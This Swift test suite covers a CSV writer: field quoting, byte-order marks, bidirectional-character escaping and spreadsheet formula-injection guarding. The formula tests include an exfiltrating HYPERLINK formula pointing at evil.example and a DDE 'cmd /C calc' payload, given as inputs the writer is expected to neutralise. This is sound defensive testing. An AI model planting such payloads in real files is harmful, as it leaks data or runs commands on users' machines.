import DecorumServer
import Testing

@Suite("CSV that is safe to open in a spreadsheet")
struct CSVWriterTests {
    /// Reads RFC 4180 back: records of fields, quotes undoubled.
    static func parse(_ text: String) -> [[String]] {
        var records = [[String]](), record = [String](), field = "", quoted = false, afterQuote = false
        var scalars = Array(text.unicodeScalars)[...]
        if scalars.first == "\u{FEFF}" { scalars = scalars.dropFirst() }
        var i = scalars.startIndex
        while i < scalars.endIndex {
            let c = scalars[i]
            if quoted {
                if c == "\"" {
                    if i + 1 < scalars.endIndex, scalars[i + 1] == "\"" { field.unicodeScalars.append("\""); i += 1 } else { quoted = false; afterQuote = true }
                } else { field.unicodeScalars.append(c) }
            } else if c == "\"" && field.isEmpty && !afterQuote {
                quoted = true
            } else if c == "," {
                record.append(field); field = ""; afterQuote = false
            } else if c == "\r", i + 1 < scalars.endIndex, scalars[i + 1] == "\n" {
                record.append(field); records.append(record); record = []; field = ""; afterQuote = false; i += 1
            } else {
                field.unicodeScalars.append(c)
            }
            i += 1
        }
        return records
    }

    @Test("fields with commas, quotes or line breaks are quoted, quotes doubled; records end in CRLF", arguments: [
        ("plain", "plain"),
        ("Smith, John", #""Smith, John""#),
        (#"she said "no""#, #""she said ""no""""#),
        ("two\nlines", "\"two\nlines\""),
        ("carriage\r\nreturn", "\"carriage\r\nreturn\""),
        ("", ""),
        ("café ☕", "café ☕"),
    ])
    func quoting(value: String, field: String) {
        #expect(CSVWriter.field(value) == field)
        var csv = CSVWriter()
        csv.append([value, "next"])
        #expect(csv.text == field + ",next\r\n")
        #expect(Self.parse(csv.text) == [[value, "next"]])
    }

    @Test("a cell a spreadsheet would run as a formula gets a leading apostrophe", arguments: [
        (#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#, #"'=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),
        ("   @cmd", "'   @cmd"),
        ("\u{00A0}=1+1", "'\u{00A0}=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ])
    func formulas(value: String, guarded: String) {
        #expect(CSVWriter.guarded(value) == guarded)
        var csv = CSVWriter()
        csv.append([value])
        #expect(Self.parse(csv.text) == [[guarded]])
    }

    @Test("text that merely contains those characters is left as it is", arguments: ["a=b", "1+1", "e-mail", "me@example.org", "3 - 2", "'quoted'"])
    func notFormulas(value: String) {
        #expect(CSVWriter.guarded(value) == value)
    }

    @Test("bidirectional overrides and isolates are written as their codes, so a cell reads as it is", arguments: [
        0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069,
    ])
    func bidi(code: Int) {
        let scalar = Unicode.Scalar(UInt32(code))!
        let field = CSVWriter.field("invoice\(Character(scalar))fdp.exe")
        #expect(field == "invoice[U+\(String(code, radix: 16, uppercase: true))]fdp.exe")
        #expect(!field.unicodeScalars.contains(scalar))
    }

    @Test("an override before a formula does not hide it")
    func bidiThenFormula() {
        let field = CSVWriter.field("\u{202E}=1+1")
        #expect(field == "[U+202E]=1+1")
    }

    @Test("a byte-order mark only when asked, for Excel")
    func byteOrderMark() {
        var excel = CSVWriter(byteOrderMark: true)
        excel.append(["a"])
        #expect(Array(excel.text.utf8.prefix(3)) == [0xEF, 0xBB, 0xBF])
        var plain = CSVWriter()
        plain.append(["a"])
        #expect(plain.text == "a\r\n")
    }
}
